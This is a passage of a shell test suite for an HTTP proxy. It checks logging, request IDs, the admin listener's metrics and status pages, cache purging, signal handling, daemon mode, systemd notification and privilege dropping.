	grep -Eq '^00000010  74 65 74 73 +\|tets\|$' "err.$n" || fail "no second line: $(cat "err.$n")"
}

test_content_on_the_terminal_is_escaped() {
	may_say '.'
	for flag in -vv -vvv; do
		origin head 'send:HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 11\r\n\r\nit\x1b[2J\x9b\xff\x07\x08\r' again
		start $flag -r ":$origin"
		printf 'a\033[2Jb\233c' >content
		is "$(code --data-binary @content "$url")" 200
		stop
		grep -n '[^[:print:]	]' "err.$n" && fail "raw octets on stderr with $flag"
	done
	:
}

test_from_vv_on_servers_are_asked_for_identity() {
	may_say '.'
	behind -v
	is "$(code -H 'Accept-Encoding: gzip, br' "$url")" 200
	is "$(field Accept-Encoding)" 'gzip, br'
	behind -vv
	is "$(code -H 'Accept-Encoding: gzip, br' "$url")" 200
	is "$(field Accept-Encoding)" identity
}

test_show_limits_v_to_what_a_rule_matches() {
	may_say '.'
	start -v --show /shown --show POST,/sent -r /=200:x
	for path in hidden.1 shown sent hidden.2; do answers 200 "$url/$path"; done
	is "$(code -d x "$url/sent/posted")" 200
	stop
	grep -q 'GET /shown' "err.$n" || fail "/shown is not shown: $(cat "err.$n")"
	grep -q 'POST /sent/posted' "err.$n" || fail "/sent/posted is not shown: $(cat "err.$n")"
	grep -E '/hidden|/sent( |$)' "err.$n" && fail 'this is shown as well'
	is "$(grep -c 'HTTP/1.1 200' "err.$n")" 2 'number of answers shown'
	start -v --show status:400-499 -r /ok=200
	for path in ok none; do code "$url/$path" >codes; done
	stop
	grep -q 'GET /none' "err.$n" || fail "/none is not shown: $(cat "err.$n")"
	grep -q 'HTTP/1.1 404' "err.$n" || fail "the answer is not shown: $(cat "err.$n")"
	grep -E '/ok|HTTP/1.1 200' "err.$n" && fail 'this is shown as well'
	:
}

test_colour_is_for_terminals_and_NO_COLOR_is_honoured() {
	need script
	script -qec true typed >typed.out 2>&1 </dev/null || skip 'script works otherwise here'
	for colour in some none; do
		: >"$colour"
		[ $colour = some ] || export NO_COLOR=1
		script -qec "'$PROXY' -v -n 1 -l 0 -r 200:x >url.$colour" "typed.$colour" >"said.$colour" 2>&1 </dev/null &
		client=$!
		helpers="$helpers $client"
		wait_for test -s "url.$colour" || fail "no URL: $(cat "said.$colour")"
		answers 200 "$(cat "url.$colour")/x"
		wait "$client"
	done
	esc=$(printf '\033')
	has "$(cat said.some)" "${esc}[" 'what a terminal gets'
	hasnt "$(cat said.none)" "$esc" 'what a terminal gets with NO_COLOR'
	like "$(cat said.none)" '[0-2][0-9]:[0-5][0-9]:[0-6][0-9] 127\.0\.0\.1 200 GET /x ' 'what a terminal gets'
}

test_a_request_id_is_made_logged_and_passed_on() {
	need jq
	start -r /=echo
	inner=$port
	start_logged --log-format json --request-id X-Request-Id -r "/up=:$inner"
	: >ids
	for sent in one two; do
		is "$(code -H "X-Request-Id: $sent" "$url/up")" 200
		field X-Request-Id >>ids
	done
	answers 404 "$url/none"
	logged 3
	is "$(sort -u ids | wc -l | tr -d ' ')" 2 'number of different ids'
	grep -E '^(one|two|)$' ids && fail 'this is what a client said'
	is "$(sed -n 1,2p log | jq -r .id)" "$(cat ids)" 'what is logged'
	jq -s -e 'last | .id != null' log >/dev/null || fail "no id for a refusal: $(cat log)"
	start_as -l 0 -o ids.log --log-format %L --request-id X-Request-Id --trust 127.0.0.1/32 -r ":$inner"
	is "$(code -H 'X-Request-Id: from-outside-1' "$url")" 200
	is "$(field X-Request-Id)" from-outside-1
	is "$(code "$url")" 200
	made=$(field X-Request-Id)
	[ -n "$made" ] || fail 'no id is made where none came'
	wait_for lines_in 2 ids.log
	is "$(cat ids.log)" "from-outside-1
$made"
}

# ---- -A ----

test_the_admin_listener_tells_how_we_are() {
	need jq
	three
	start_admin -w 2 -r ":$a" -r /x=200:x
	is "$(wc -l <"out.$n" | tr -d ' ')" 2 'URL lines'
	is "$(get "$url/[1-5]")" aaaaa
	is "$(get "$admin/healthz")" ok
	is "$(get "$admin/")" '/metrics
/healthz
/status
/proxy.pac'
	is "$(get "$admin/status" | jq -c '[.draining, (.workers|length), .answered, .routes[1].match, .routes[1].members[0].target, .routes[1].members[0].state, .routes[1].members[0].requests]')" \
		"[false,2,5,\"/\",\":$a\",\"up\",5]"
	is "$(get "$admin/status" | jq .pid)" "$pid"
	code "$admin/metrics" >status
	like "$(header Content-Type)" '^text/plain; version=0\.0\.4'
	is "$(metric 'proxy_requests_total{mode="reverse",route="\/",code="2xx"}')" 5
	is "$(metric 'proxy_request_duration_seconds_count{mode="reverse",route="\/"}')" 5
	is "$(metric 'proxy_request_duration_seconds_bucket{mode="reverse",route="\/",le="+Inf"}')" 5
	is "$(metric 'proxy_connections{side="client"}')" 0 'clients, who are not those of -A'
	answers 404 "$admin/x"
	for method in POST PUT DELETE OPTIONS TRACE MADE-UP; do is "$(code -X $method "$admin/healthz")" 405 "status of $method"; done
	like "$(header Allow)" 'GET.*HEAD'
	for path in / /metrics /status; do is "$(code -I "$admin$path")" 200 "status of HEAD $path"; done
	talk "${admin##*:}" 'send:HEAD /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n' rest | tr -d '\r' >told
	is "$(sed -n '1s/ *$//p;/^Content-Length/p;/^$/,$p' told | tr '\n' ,)" 'HTTP/1.1 200 OK,Content-Length: 3,,' 'the answer to HEAD'
	is "$(code -p -x "$admin" "http://127.0.0.1:$a/")" 000
	is "$(code "$admin/proxy.pac")" 404 'the .pac of a reverse proxy'
}

test_metrics_grow_by_what_happened() {
	three
	dead=1
	origin head nap:260 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' again
	late=$origin
	origin hang
	start_as -l 0 -A 0 -o log --log-format '%I %O' -r "/kept=:$a" -r "/two=:$dead" -r "/two=:$b" -r "/slow=:$late" -r "/lost=:$origin" -d /denied
	admin=$(sed -n 2p "out.$n")
	becomes() { [ "$(metric "$1")" = "$2" ]; }
	is_now() { wait_for becomes "$1" "$2" || fail "$1 is $(metric "$1"), not $2"; }
	get "$url/kept/[1-3]" >answers
	get "$url/slow" >answers
	get -d content "$url/slow" >answers
	is_now proxy_upstream_connects_total 2
	is_now proxy_pool_reused_total 3
	get "$url/two" >answers
	answers 403 "$url/denied"
	answers 404 "$url/nowhere"
	talk "$port" 'send:GET /lost HTTP/1.1\r\nHost: h\r\n\r\n' nap:50 reset  # noticed after a while
	logged 9
	is_now 'proxy_requests_total{mode="reverse",route="\/kept",code="2xx"}' 3
	is_now 'proxy_requests_total{mode="reverse",route="\/slow",code="2xx"}' 2
	is_now 'proxy_requests_total{mode="reverse",route="\/lost",code="none"}' 1
	is "$(get "$admin/metrics" | sed -n 's/^proxy_requests_total.*code="4xx"} //p' | awk '{ n += $1 } END { print n }')" 2
	is_now proxy_connections_accepted_total 7
	is_now proxy_retries_total 1
	is_now 'proxy_refused_total{reason="denied"}' 1
	is_now 'proxy_member_failures_total{route="\/two",.*index="0"}' 1
	is_now 'proxy_member_requests_total{route="\/two",.*index="1"}' 1
	is_now 'proxy_member_idle{route="\/kept",.*}' 1
	is_now 'proxy_request_duration_seconds_bucket{mode="reverse",route="\/slow",le="0.25"}' 0
	is_now 'proxy_request_duration_seconds_bucket{mode="reverse",route="\/slow",le="10"}' 2
	metric 'proxy_request_duration_seconds_sum{mode="reverse",route="\/slow"}' | awk '{ exit $1 < 0.5 || $1 > 9 }' || fail 'the times are not added up'
	for way in 'received 1' 'sent 2'; do
		is "$(get "$admin/metrics" | sed -n "s/^proxy_${way% *}_bytes_total.* //p" | awk '{ n += $1 } END { print n }')" "$(cut -d' ' -f"${way#* }" log | awk '{ n += $1 } END { print n }')" "octets ${way% *}"
	done
}

test_metrics_tell_of_the_cache_tunnels_and_streams() {
	three
	start -r /stored=200:x -r /ever=200:y -R 'Cache-Control: max-age=60'
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: x\n\n' nap:300
	start_admin -f -C cache -r ":$port" -r "/stream=:$origin"
	get "$url/stored?[1-2]" >answers
	get "$url/stored?[1-2]" >answers
	get -H 'Cache-Control: no-cache' "$url/stored?1" >answers
	get -d x "$url/stored?3" >answers
	becomes() { [ "$(metric "$1")" = "$2" ]; }
	is_now() { wait_for becomes "$1" "$2" || fail "$1 is $(metric "$1"), not $2"; }
	is_now 'proxy_cache_total{result="hit"}' 2
	is_now 'proxy_request_duration_seconds_count{mode="reverse",route="\/"}' 6
	[ "$(metric proxy_cache_entries)" -ge 2 ] || fail "$(metric proxy_cache_entries) entries"
	[ "$(metric proxy_cache_bytes)" -ge 2000 ] || fail "$(metric proxy_cache_bytes) octets"
	get "$url/stream" >answers
	is_now 'proxy_requests_total{mode="reverse",route="\/stream",code="2xx"}' 1
	is_now 'proxy_request_duration_seconds_count{mode="reverse",route="\/stream"}' 0
	get -p -x "$url" "http://127.0.0.1:$a/" >answers
	get -x "$url" "http://127.0.0.1:$a/" >answers
	is_now 'proxy_requests_total{mode="forward",route="",code="2xx"}' 2
	is_now 'proxy_request_duration_seconds_count{mode="forward",route=""}' 1
}

test_the_admin_listener_says_that_it_drains() {
	origin head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nlate'
	start_admin -w 2 -r ":$origin"
	get "$url" >late & held=$!
	wait_for test -f "got$m.1" || fail 'the server is not asked'
	hear='send:GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n'
	talk "${admin##*:}" "$hear" 'read:ok\n' touch:asked wait:term "$hear" 'read:draining\n' touch:draining rest >told & talker=$!
	helpers="$helpers $talker"
	wait_for test -f asked || fail "$(cat told)"
	kill -TERM "$pid"
	closed() { ! "$peer" talk "$port" 2>/dev/null; }
	wait_for closed || fail 'it still accepts'
	: >term
	wait_for test -f draining || fail "$(cat told)"
	has "$(cat told)" 'HTTP/1.1 503 '
	: >go
	wait $held
	is "$(cat late)" late
	wait $talker || fail 'the connection does not end'
	exits 0
}

test_prometheus_accepts_the_metrics() {
	need promtool
	three
	start -A 0 -f -C cache -w 2 -r ":$a,max=9" -r ":$a" -r '/x=200:a "text" with \ in it' -r '/x=200:b' --health tcp --mirror ":$b" -d /denied
	admin=$(sed -n 2p "out.$n")
	get "$url/[1-3]" >answers
	get "$url/x" >answers
	answers 403 "$url/denied"
	get -x "$url" "http://127.0.0.1:$c/" >answers
	get "$admin/metrics" >metrics
	promtool check metrics <metrics >complaints 2>&1 || fail "$(cat complaints)"
	[ ! -s complaints ] || fail "$(cat complaints)"
	is "$(sed -n 's/^proxy_refused_total{reason="denied"} //p' metrics)" 1
	is "$(sed -n 's/^proxy_cache_total{result="miss"} //p' metrics)" 4
	is "$(sed -n 's/^proxy_requests_total{mode="forward",route="",code="2xx"} //p' metrics)" 1
	is "$(sed 's/ .*//' metrics | grep -v '^#' | sort | uniq -d)" '' 'doubled series'
}

test_the_admin_listener_answers_only_a_host_that_is_meant() {
	start_admin -r /=200:x
	for host in 127.0.0.1 localhost '[::1]:1' 192.0.2.1; do is "$(code -H "Host: $host" "$admin/metrics")" 200 "status for $host"; done
	for host in evil.example localhost.example x; do is "$(code -H "Host: $host" "$admin/metrics")" 421 "status for $host"; done
	start -A localhost:0 -r /=200:x
	is "$(code -H 'Host: evil.example' "$(sed -n 2p "out.$n")/healthz")" 421
	for form in ':0 http://127\.0\.0\.1:[0-9]+' '127.0.0.1:0 http://127\.0\.0\.1:[0-9]+' 'http://localhost:0 http://127\.0\.0\.1:[0-9]+'; do
		start -A "${form% *}" -r /=200:x
		like "$(sed -n 2p "out.$n")" "^${form#* }\$" "the URL with -A ${form% *}"
		answers 200 "$(sed -n 2p "out.$n")/healthz"
	done
	start -A unix:admin.sock -r /=200:x
	is "$(sed -n 2p "out.$n")" unix:admin.sock
	is "$(get --unix-socket admin.sock http://localhost/healthz)" ok
}

test_from_elsewhere_the_admin_listener_tells_less() {
	need hostname
	address=$(hostname -I 2>/dev/null | tr ' ' '\n' | grep -E '^[0-9.]+$' | head -n 1)
	[ -n "$address" ] || skip 'no address but loopback here'
	start_as -l 0 -A :0 -o log --log-format '%U %s %{why}x' -r /=200:x
	admin=$(sed -n 2p "out.$n" | sed "s/127.0.0.1/$address/")
	for path in /metrics /healthz; do is "$(code "$admin$path")" 200 "status of $path"; done
	for path in / /status /x; do is "$(code "$admin$path")" 403 "status of $path"; done
	is "$(code -X PURGE "$admin/")" 403
	is "$(code "$(sed -n 2p "out.$n")/status")" 200 'from here'
	logged 4
	is "$(sort -u log | tr '\n' ,)" '/ 403 admin,/status 403 admin,/x 403 admin,'
	start -A :0 -u bob:secret -r /=200:x
	admin=$(sed -n 2p "out.$n" | sed "s/127.0.0.1/$address/")
	is "$(code "$admin/status")" 401
	is "$(code -u bob:secret "$admin/status")" 200
	is "$(code -u bob:wrong "$admin/status")" 401
	is "$(code "$admin/healthz")" 200
}

test_admin_requests_are_not_counted_or_logged() {
	start_as -l 0 -A 0 -o log -n 2 --rate 2/h --max per-client=1 --expect 2,all -R 'X-Own: 1' -r /=200:x
	admin=$(sed -n 2p "out.$n")
	for i in 1 2 3 4 5; do answers 200 "$admin/healthz"; done
	is "$(header X-Own)" ''
	answers 200 "$url"
	answers 200 "$url"
	exits 0
	is "$(wc -l <log | tr -d ' ')" 2
}

test_the_proxy_pac_names_the_address_it_was_asked_at() {
	need node
	start_as -q -l :0 -A 0 -a from:private
	admin=$(sed -n 2p "out.$n")
	code "$admin/proxy.pac" >status
	is "$(header Content-Type)" application/x-ns-proxy-autoconfig
	is "$(node -e 'eval(require("fs").readFileSync("body", "utf8")); console.log(FindProxyForURL("http://a/", "a"))')" "PROXY $(sed -n 1p "out.$n" | sed 's,http://,,')"
	is "$(code -H 'Host: evil.example' "$admin/proxy.pac")" 421
	address=$(hostname -I 2>/dev/null | tr ' ' '\n' | grep -E '^[0-9.]+$' | head -n 1)
	if [ -n "$address" ]; then
		start_as -q -l :0 -A :0 -a from:private
		admin=$(sed -n 2p "out.$n" | sed "s/127.0.0.1/$address/")
		has "$(get "$admin/proxy.pac")" "PROXY $address:$port" 'the .pac for those who ask from elsewhere'
	fi
	for wild in 0.0.0.0/127.0.0.1 '[::]/[::1]'; do
		start_as -q -l "${wild%/*}:0" -A "${wild#*/}:0" -a from:private
		has "$(get "$(sed -n 2p "out.$n")/proxy.pac")" "PROXY ${wild#*/}:$port"
		is "$(sed -n 1p "out.$n")" "http://${wild#*/}:$port"
	done
	start_as -q -l 0.0.0.0:0 -A '[::1]:0' -a from:private
	is "$(code "$(sed -n 2p "out.$n")/proxy.pac")" 404 'the .pac for who asked by an address that leads to no listener'
}

test_purge_by_the_admin_listener() {
	start -r /=200:x -R 'Cache-Control: max-age=100'
	inner=$port
	start_admin -f -C cache -r ":$inner"
	for i in 1 2; do
		get -D head "$url/p" >body
		get -D head2 -x "$url" "http://127.0.0.1:$inner/q" >body
	done
	has "$(cat head)" '; hit'
	has "$(cat head2)" '; hit'
	for field in 'Origin: http://x' 'Forwarded: for=192.0.2.1' 'Via: 1.1 x' 'X-Forwarded-For: 192.0.2.1' 'X-Forwarded-Host: x' 'Sec-Fetch-Site: none'; do
		is "$(code -X PURGE -H "Host: 127.0.0.1:$port" -H "$field" "$admin/p")" 403 "status of PURGE with $field"
	done
	is "$(code -X PURGE -H "Host: 127.0.0.1:$port" "$admin/p")" 200
	is "$(code -X PURGE -x "$admin" "http://127.0.0.1:$inner/q")" 200
	is "$(code -X PURGE -x "$admin" "http://127.0.0.1:$inner/q")" 404
	get -D head "$url/p" >body
	has "$(cat head)" fwd=
}

test_a_command_is_told_where_the_admin_listener_is() {
	need curl
	"$peer" bound 10 "$PROXY" -q -A 0 -r /=200:x -- sh -c 'curl -s "$PROXY_ADMIN_URL/healthz"' >told 2>complaint
	is "$?$(cat told complaint)" 0ok
}

# ---- the process ----

test_term_and_int_finish_what_is_in_flight_and_end_with_0() {
	for signal in TERM INT; do
		rm -f begun go
		origin head touch:begun wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nwhole'
		start -r ":$origin"
		get "$url" >got &
		client=$!
		wait_for test -f begun || fail 'the request did not arrive'
		"$peer" talk "$port" rest >idle &
		kill -$signal "$pid"
		closed() { ! "$peer" talk "$port" 2>/dev/null; }
		wait_for closed || fail 'it still accepts'
		: >go
		wait $client
		is "$(cat got)" whole
		exits 0
	done
}

test_a_second_term_ends_at_once() {
	origin head touch:begun hang
	start -r ":$origin"
	code "$url" >codes &
	wait_for test -f begun || fail 'the request did not arrive'
	kill -TERM "$pid"
	closed() { ! "$peer" talk "$port" 2>/dev/null; }
	wait_for closed || fail 'it still accepts'
	gone "$pid" && fail 'it did not wait for the request'
	kill -TERM "$pid"
	began=$(now)
	wait "$pid"
	[ $(($(now) - began)) -le 2 ] || fail 'the second TERM is ignored'
	pids=${pids% "$pid"}
}

test_connections_already_queued_are_served_at_the_end() {
	start -r /=200:x
	kill -STOP "$pid"
	get "$url" >got &
	client=$!
	"$peer" nap 200
	kill -TERM "$pid"
	kill -CONT "$pid"
	wait $client
	is "$(cat got)" x
	exits 0
}

test_n_ends_after_so_many_answers_refusals_included() {
	start -n 3 -r /ok=200:x -d /denied
	answers 200 "$url/ok"
	answers 403 "$url/denied"
	answers 404 "$url/other"
	exits 0
	start -n 1 -r /=200:x
	is "$(get "$url")" x
	exits 0
}

test_D_returns_once_it_accepts_and_P_holds_the_pid() {
	daemon=$("$PROXY" -q -D -P pidfile -l 0 -r /=200:hello -o log)
	is $? 0 'exit status'
	[ -s pidfile ] || fail 'no pidfile'
	helpers="$helpers $(cat pidfile)"
	like "$daemon" '^http://127\.0\.0\.1:[0-9]+$'
	like "$(cat pidfile)" '^[0-9]+$'
	is "$(get "$daemon")" hello
	kill -TERM "$(cat pidfile)"
	wait_for test ! -e pidfile || fail 'the pidfile stays'
}

test_D_works_within_a_command_substitution_and_keeps_the_directory() {
	echo here >page
	url=$("$PROXY" -D -P pidfile -l 0 -r file:page -o log)
	helpers="$helpers $(cat pidfile)"
	is "$(get "$url/x")" here
	logged
	has "$(cat log)" /x
	kill -TERM "$(cat pidfile)"
	wait_for test ! -e pidfile
}

test_D_tells_its_errors_before_it_leaves() {
	start -r /=200
	try -D -q -l "$port"
	is "$status" 1
	has "$err" "$port"
	try -D -q -P /nonexistent/pid -l 0
	is "$status" 1
	has "$err" /nonexistent/pid
}

test_P_works_in_the_foreground_too() {
	start -P pidfile -r /=200
	is "$(cat pidfile)" "$pid"
	stop
	[ ! -e pidfile ] || fail 'the pidfile stays'
}

test_a_closed_stderr_or_a_pipe_nobody_reads_does_not_stop_it() {
	mkfifo pipe
	touch out.1
	{ "$PROXY" -l 0 -r /=200:x >out.1 2>pipe & echo $! >pid; }
	{ exec 5<pipe; }
	pids="$pids $(cat pid)" n=1 pid=$(cat pid) listeners=1
	wait_for said_urls
	url=$(cat out.1)
	port=${url##*:}
	is "$("$peer" load "$port" 10 3000 "GET /$(head -c 500 /dev/zero | tr '\0' x) HTTP/1.1\r\nHost: h\r\n\r\n")" '200:3000 broken:0'
	exec 5<&-
	answers 200 "$url"
	answers 200 "$url"
}

test_what_a_full_pipe_takes_are_whole_lines() {
	for flags in '' '-vv -q'; do
		rm -f pipe
		mkfifo pipe
		n=$((n + 1)) listeners=1
		: >"out.$n"
		{ "$PROXY" $flags -l 0 -r '/=200:{"a":[1,2,"three"]}' >"out.$n" 2>pipe & echo $! >pid; }
		{ exec 5<pipe; }
		pid=$(cat pid)
		pids="$pids $pid"
		wait_for said_urls
		url=$(cat "out.$n")
		port=${url##*:}
		is "$("$peer" load "$port" 10 2000 "GET /$(head -c 500 /dev/zero | tr '\0' x) HTTP/1.1\r\nHost: h\r\n\r\n")" '200:2000 broken:0' "with $flags, what clients get"
		stop
		cat <&5 >lines
		exec 5<&-
		[ "$(wc -l <lines)" -gt 50 ] || fail "few lines: $(cat lines)"
		grep x lines | sed 's/[^x]//g' | awk 'length > 3 && length != 500' >short
		[ ! -s short ] || fail "with $flags, a path that is not whole"
		grep -Evn '^(127\.0\.0\.1 - - \[[^]]*\] "GET /x+ HTTP/1\.1" 200 19 "-" "-"|> GET /x+ HTTP/1\.1|> Host: h|>|curl .* http://h/x+|< HTTP/1\.1 200 OK|< [A-Z][A-Za-z-]*: .*|<|\{|  "a": \[|    ([12]|"three"),?|  \]|\}|proxy: .*)$' lines >odd &&
			fail "with $flags, a line that is not whole: $(cut -c 1-90 odd | head -n 3)"
	done
	:
}

test_inherited_descriptors_are_not_kept_by_helpers_or_leaked() {
	need_proc
	start -r /=200 -u bob:x
	for p in $(tree "$pid"); do
		[ "$(descriptors_of "$p")" -lt 40 ] || fail "process $p has $(descriptors_of "$p") descriptors"
	done
}

test_all_processes_end_with_the_first() {
	need_proc
	start -f -r http://nothing.invalid -u bob:secret
	code -u bob:secret "$url" >codes
	all=$(tree "$pid")
	kill -TERM "$pid"
	exits 0
	for p in $all; do
		wait_for gone "$p" || fail "process $p remains"
	done
	start -r http://nothing.invalid
	code "$url" >codes
	all=$(tree "$pid")
	kill -KILL "$pid"
	wait "$pid"
	pids=${pids% "$pid"}
	for p in $all; do
		wait_for gone "$p" || fail "process $p remains after a kill"
	done
}

test_it_starts_with_stdin_stdout_or_stderr_closed() {
	touch out.1 out.2
	"$peer" alarm 5 "$PROXY" -q -n 1 -l 0 -r /=200:x <&- >out.1 2>err.1 &
	pid=$! pids="$pids $!" n=1 listeners=1
	wait_for said_urls
	url=$(cat out.1)
	is "$(get "$url")" x
	exits 0
	free=$("$peer" port)
	"$peer" alarm 5 "$PROXY" -n 1 -q -l "$free" -r /=200:x 2>&- >out.2 &
	pid=$! pids="$pids $!" n=2
	wait_for said_urls
	is "$(get "http://127.0.0.1:$free")" x
	exits 0
}

notified() {  # proxies from here on tell a socket of systemd's kind; what comes is in the file $news
	helper datagrams notify
	news=said.$m
	wrap="$wrap env NOTIFY_SOCKET=$PWD/notify"
}
news_has() { grep -q "$1" "$news"; }

test_systemd_is_told_when_it_is_ready_reloads_and_stops() {
	notified
	echo /none >rules
	start -w 2 -d @rules -r /=200
	wait_for news_has READY=1 || fail "no READY=1 in $(cat $news)"
	has "$(cat $news)" "MAINPID=$pid"
	is "$(grep -c READY=1 $news)" 1 'times it is ready'
	kill -HUP "$pid"
	reloaded() { [ "$(grep -c READY=1 $news)" = 2 ]; }
	wait_for reloaded || fail "not ready after HUP: $(cat $news)"
	is "$(grep -Eo 'READY=1|RELOADING=1|STOPPING=1' $news | tr '\n' ' ')" 'READY=1 RELOADING=1 READY=1 '
	stop
	wait_for news_has STOPPING=1 || fail "no STOPPING=1 in $(cat $news)"
}

test_systemd_is_told_of_the_end_of_every_reload() {
	notified
	reloaded() { [ "$(grep -c READY=1 $news)" = "$1" ]; }
	start -r /=200
	wait_for reloaded 1 || fail "no READY=1 in $(cat $news)"
	kill -HUP "$pid"
	wait_for reloaded 2 || fail "with nothing to read again: $(cat $news)"
	echo /none >rules
	helper datagrams notify.2
	news=said.$m
	wrap="env NOTIFY_SOCKET=$PWD/notify.2"
	start -d @rules -r /=200
	may_say '^proxy: .*rules'
	echo 'nonsense:x' >rules
	kill -HUP "$pid"
	wait_for reloaded 2 || fail "with rules that are bad: $(cat $news)"
	grep -q rules "err.$n" || fail 'the bad rules are not reported'
	rm rules
	kill -HUP "$pid"
	wait_for reloaded 3 || fail "with rules that are gone: $(cat $news)"
	is "$(grep -Eo 'READY=1|RELOADING=1|STOPPING=1' $news | tr '\n' ' ')" 'READY=1 RELOADING=1 READY=1 RELOADING=1 READY=1 '
	answers 200 "$url"
}

test_systemd_is_told_the_pid_of_a_daemon() {
	notified
	daemon=$($wrap "$PROXY" -q -D -P pidfile -l 0 -r /=200:hello)
	helpers="$helpers $(cat pidfile)"
	wait_for news_has READY=1 || fail "no READY=1 in $(cat $news)"
	has "$(cat $news)" "MAINPID=$(cat pidfile)"
	is "$(get "$daemon")" hello
}

test_systemd_s_socket_is_not_for_the_command_and_need_not_be_there() {
	notified
	$wrap "$PROXY" -q -r /=200 -- env >environment || fail 'it fails'
	grep '^NOTIFY_SOCKET' environment && fail 'the command is told of the socket'
	wait_for news_has READY=1
	for nobody in "$PWD/nobody" @nobody nonsense ''; do
		wrap="env NOTIFY_SOCKET=$nobody"
		start -r /=200:x
		is "$(get "$url")" x "with NOTIFY_SOCKET=$nobody, the answer"
	done
	wrap=''
	helper datagrams @"proxy.$$"
	news=said.$m
	wrap="env NOTIFY_SOCKET=@proxy.$$"
	start -r /=200
	wait_for news_has READY=1 || fail 'an abstract socket is not told'
}

test_workers_share_sockets_that_systemd_passes() {
	wrap="$peer give 1"
	start_as -w 2 -o log --log-format %P -r /=200:x
	wait_for all_have_served 2 || fail "only one serves: $(sort log | uniq -c)"
	is "$(load 20 500)" '200:500 broken:0'
}

test_usr1_says_how_it_is_doing() {
	dead=1
	may_say '^proxy: status: '
	start -r /=200 -r "/dead=:$dead" -d /denied
	for path in a b c; do answers 200 "$url/$path"; done
	answers 502 "$url/dead"
	told() { kill -USR1 "$pid"; "$peer" nap 20; tail -n 1 "err.$n" | grep -q 'failed 1'; }   # it counts when it has answered
	wait_for told || fail "it says: $(cat "err.$n")"
	like "$(tail -n 1 "err.$n")" "^proxy: status: pid $pid, up [0-9]+[smhd][^,]*, workers 1, clients [0-9]+, upstreams [0-9]+, idle [0-9]+,.* answered 4, failed 1(,|\$)"
	helper hold "$port" 3
	held() { kill -USR1 "$pid"; "$peer" nap 20; tail -n 1 "err.$n" | grep -q ' clients 3,'; }
	wait_for held || fail "3 clients, and it says: $(tail -n 1 "err.$n")"
	workers=2
	start_workers -r /=200:x
	is "$(load 4 20)" '200:20 broken:0'
	kill -USR1 "$pid"
	wait_for grep -q status: "err.$n" || fail 'nothing is said with workers'
	"$peer" nap 200
	is "$(wc -l <"err.$n" | tr -d ' ')" 1 'number of lines with workers'
	like "$(cat "err.$n")" "^proxy: status: pid $pid, .*workers 2, .*answered 20, failed 0"
}

test_usr1_and_usr2_are_passed_on_to_a_command() {
	cat >orders <<-END
	trap 'echo usr1 >>got' USR1
	trap 'echo usr2 >>got' USR2
	touch ready
	while [ ! -f stop ]; do "$peer" nap 20; done
	END
	"$peer" bound 10 sh -c 'echo $$ >pid; exec "$@"' sh "$PROXY" -q -r /=200:still -- sh ./orders >bound.out 2>bound.err &
	bound=$!
	wait_for test -f ready || fail "the command does not run: $(cat bound.err)"
	kill -USR1 "$(cat pid)"
	wait_for test -f got || fail 'USR1 does not come'
	kill -USR2 "$(cat pid)"
	wait_for lines_in 2 got || fail "USR2 does not come: $(cat got bound.err)"
	: >stop
	wait $bound
	is $? 0 'exit status'
	is "$(cat bound.err)" '' 'what it says'
}

as_root() { [ "$(id -u)" = 0 ] && need_proc && id nobody >ids 2>/dev/null || skip 'needs root, /proc and a user nobody'; }
ids() { for p in $(tree "$1"); do sed -n 's/^\([UG]id\):[^0-9]*/\1 /p' "/proc/$p/status"; done | tr '\t' ' ' | sort -u | tr '\n' ' '; }
groups_of() { for p in $(tree "$1"); do sed -n 's/^Groups:[[:space:]]*//p' "/proc/$p/status"; done | tr -s ' ' '\n' | sort -un | tr '\n' ' '; }

test_U_gives_up_root_in_every_process() {
	as_root
	user=$(id -u nobody) group=$(id -g nobody)
	while read -r who uid gid; do
		start -U "$who" -w 2 -u bob:secret -r /=200:x -r /name=http://nothing.invalid
		is "$(get -u bob:secret "$url")" x "with -U $who, the answer"
		code -u bob:secret "$url/name" >codes
		[ "$(tree "$pid" | wc -l)" -ge 3 ] || fail "these processes: $(tree "$pid")"
		is "$(ids "$pid")" "Gid $gid $gid $gid $gid Uid $uid $uid $uid $uid " "with -U $who, what all processes have"
		has " $gid $(id -G "${who%%:*}" 2>/dev/null) " " $(groups_of "$pid" | sed 's/ $//') " "with -U $who, the groups"
		for p in $(tree "$pid"); do
			is "$(sed -n 's/^Cap[PE][a-z]*:[^0-9a-f]*//p' "/proc/$p/status" | sort -u)" 0000000000000000 'what process '"$p may still"
		done
		stop
	done <<-END
	nobody $user $group
	nobody:daemon $user $(id -g daemon)
	$user $user $group
	4242:4343 4242 4343
	$user:4343 $user 4343
	END
}

test_U_binds_and_opens_before_it_gives_up_root() {
	as_root
	for low in 1017 1011 1009 1003 997 none; do "$peer" free $low 2>/dev/null && break; done
	[ $low != none ] || skip 'no low port is free'
	(umask 077 && : >log && echo /denied >rules)
	start_as -l "127.0.0.1:$low" -o log --log-format %P -d @rules -U nobody -w 2 -r /=200:x
	may_say '^proxy: worker '
	wait_for all_have_served 2 || fail 'only one serves'
	answers 403 "$url/denied"
	kill -KILL "$(tail -n 1 log)"
	wait_for all_have_served 3 || fail "a worker is not replaced: $(cat "err.$n")"
	like "$(ids "$pid")" "^Gid [1-9][0-9 ]* Uid $(id -u nobody) $(id -u nobody) $(id -u nobody) $(id -u nobody) \$"
}

test_U_lets_hup_open_the_log_again() {
	as_root
	chmod 711 "$tmp"
	mkdir logs
	chown nobody logs
	(umask 077 && echo first >logs/log)
	start_as -l 0 -o logs/log -U nobody -w 2 -r /=200
	answers 200 "$url/one"
	wait_for lines_in 2 logs/log || fail 'nothing is logged'
	is "$(find logs -name log -user nobody)" logs/log 'the log that is of nobody'
	mv logs/log logs/old
	kill -HUP "$pid"
	wait_for test -f logs/log || fail "no new log: $(cat "err.$n")"
	answers 200 "$url/two"
	wait_for lines_in 1 logs/log || fail 'nothing is logged to the new one'
	has "$(cat logs/log)" /two
	(umask 077 && : >log)
	start_as -l 0 -o log -U nobody -r /=200
	kill -HUP "$pid"
	answers 200 "$url/three"
	logged
	is "$(cat "err.$n")" '' 'what it says to HUP with a log in a directory of root; it'
}

test_U_removes_the_pidfile_and_the_socket_where_it_may() {
